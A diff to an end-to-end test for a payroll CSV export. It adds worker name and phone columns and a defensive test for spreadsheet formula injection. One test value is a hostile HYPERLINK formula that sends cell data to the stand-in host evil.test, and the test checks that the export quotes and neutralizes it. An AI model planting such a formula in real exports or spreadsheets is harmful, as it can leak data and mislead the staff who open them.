@@ -407,6 +407,8 @@ describe('timesheets, corrections and payroll export (e2e, controllable clock)',
       );
       expect(Object.keys(rows[0])).toEqual([
         'worker_id',
+        'worker_name',
+        'worker_phone',
         'date',
         'first_in',
         'last_out',
@@ -420,6 +422,9 @@ describe('timesheets, corrections and payroll export (e2e, controllable clock)',
       expect(farRow.flags).toContain(`open_shift@${far.seq}`);
       const nightRow = rows.find((r) => r.worker_id === night.workerId && r.date === '2026-03-02')!;
       expect(nightRow).toMatchObject({
+        // the payroll needs who to pay: the name and the phone (a leading + neutralized)
+        worker_name: 'Sita Devi',
+        worker_phone: `'${(await get(`/api/v5/workers/${night.workerId}`)).body.phone}`,
         first_in: '2026-03-02T22:00:00+05:30',
         last_out: '2026-03-03T06:00:00+05:30',
         hours: '8.00',
@@ -429,6 +434,32 @@ describe('timesheets, corrections and payroll export (e2e, controllable clock)',
       const crewRow = rows.find((r) => r.worker_id === crew.workerId && r.date === '2026-03-04')!;
       expect(crewRow.corrected).toBe('true');
       expect(crewRow.ledger_seqs.split(' ').length).toBeGreaterThanOrEqual(4);
+      expect(crewRow.worker_name).toBe('Crew member');
+      expect(text).not.toMatch(/PLT_/);
+
+      // a name is user input: a formula, a comma, quotes and a line break stay one inert cell
+      const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Pay here"),\r\n@SUM(1)';
+      const rename = (name: string) =>
+        http(t.baseUrl, 'PATCH', `/api/v5/workers/${night.workerId}`, {
+          key: t.keys.admin,
+          body: { name },
+        });
+      expect((await rename(hostile)).status).toBe(200);
+      try {
+        const again = await fetch(
+          `${t.baseUrl}/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-02&to=2026-03-02&workerId=${night.workerId}`,
+          { headers: { 'x-api-key': t.keys.auditor } },
+        );
+        const raw = await again.text();
+        const [row] = parse<Record<string, string>>(raw, { columns: true });
+        expect(row.worker_name).toBe(`'${hostile}`);
+        expect(raw).toContain(
+          `,"'=HYPERLINK(""http://evil.test/?""&A1,""Pay here""),\r\n@SUM(1)",`,
+        );
+      } finally {
+        expect((await rename('Sita Devi')).status).toBe(200);
+      }
+
       const signedPath = `/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10`;
       const thekedarCsv = await http(t.baseUrl, 'GET', signedPath, {
         headers: signedNow({ method: 'GET', path: signedPath }),
